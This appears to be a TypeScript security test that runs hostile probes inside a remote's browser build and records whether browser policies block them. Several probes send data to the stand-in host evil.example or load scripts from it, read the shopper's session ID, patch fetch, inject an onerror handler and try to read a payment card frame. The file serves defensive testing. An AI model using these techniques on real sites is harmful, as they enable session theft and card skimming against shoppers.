/** Result of an attempt: it succeeded, or the browser or the shell blocked it. */
export type Outcome = 'got' | 'refused';

/**
 * Runs inside a remote's browser build (as text, so it uses nothing from outside). Stores a promise of each attempt's
 * result in `window.hostile`.
 */
export function hostileBrowser(): void {
  const evil = 'https://evil.example';
  const later = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));
  const loads = (element: HTMLScriptElement | HTMLImageElement): Promise<Outcome> => {
    const ended = new Promise<Outcome>((resolve) => {
      element.onload = () => resolve('got');
      element.onerror = () => resolve('refused');
    });
    document.body.append(element);
    return Promise.race([ended, later(3_000).then(() => 'refused' as const)]);
  };
  const frame = (src: string): HTMLIFrameElement => {
    const element = Object.assign(document.createElement('iframe'), { src });
    document.body.append(element);
    return element;
  };
  const boot = JSON.parse(document.getElementById('tm-boot')?.textContent ?? '{}') as {
    variant: { paymentOrigin: string };
  };
  const attempts: Record<string, () => Outcome | Promise<Outcome>> = {
    'reads the storage of the shopper': () => (localStorage.getItem('client_session_id') ? 'got' : 'refused'),
    'listens to every call by patching fetch': () => {
      const real = globalThis.fetch;
      globalThis.fetch = (...asked) => real(...asked);
      return globalThis.fetch === real ? 'refused' : 'got';
    },
    'changes another part of the page': () => {
      document.getElementById('tm-footer')?.setAttribute('data-forged', '');
      return document.querySelector('[data-forged]') ? 'got' : 'refused';
    },
    'loads a script of another site, under a policy name of ours and with its digest': () => {
      const factory = (globalThis as { trustedTypes?: { createPolicy(name: string, rules: object): unknown } })
        .trustedTypes;
      const policy = factory?.createPolicy('tm-remote', { createScriptURL: (url: string) => url }) as {
        createScriptURL(url: string): string;
      };
      const script = document.createElement('script');
      // Digest of the empty file; without one the integrity policy blocks it.
      script.integrity = 'sha384-OLBgp1GsljhM2TJ+sbHjaiH9txEUvgdDTAzHv2P24donTt6/529l+9Ua0vFImLlb';
      script.crossOrigin = 'anonymous';
      script.src = policy.createScriptURL(`${evil}/policy.js`);
      return loads(script);
    },
    'loads a script of another site': () => {
      const script = document.createElement('script');
      script.src = `${evil}/plain.js`;
      return loads(script);
    },
    'runs text as code': () => (new Function('return 1')() === 1 ? 'got' : 'refused'),
    'writes markup with a handler': () => {
      document.createElement('p').innerHTML = '<img src=x onerror="1">';
      return 'got';
    },
    'sends what it read to another site': () =>
      fetch(`${evil}/call`, { method: 'POST', mode: 'no-cors', body: 'x' }).then(() => 'got' as const),
    'sends what it read as a picture’s address': () => loads(Object.assign(new Image(), { src: `${evil}/picture?x` })),
    'frames another site': async () => {
      const refused = new Promise<Outcome>((resolve) =>
        addEventListener('securitypolicyviolation', () => resolve('refused'), { once: true }),
      );
      frame(`${evil}/frame`);
      return Promise.race([refused, later(3_000).then(() => 'got' as const)]);
    },
    'reads the card form of the payment provider': async () => {
      const card = frame(`${boot.variant.paymentOrigin}/healthz`);
      await later(1_500);
      return card.contentDocument ? 'got' : 'refused';
    },
  };
  const run = async (): Promise<Record<string, Outcome>> => {
    const outcomes: Record<string, Outcome> = {};
    for (const [what, attempt] of Object.entries(attempts))
      outcomes[what] = await Promise.resolve()
        .then(attempt)
        .catch(() => 'refused' as const);
    return outcomes;
  };
  (globalThis as { hostile?: unknown }).hostile = run();
}
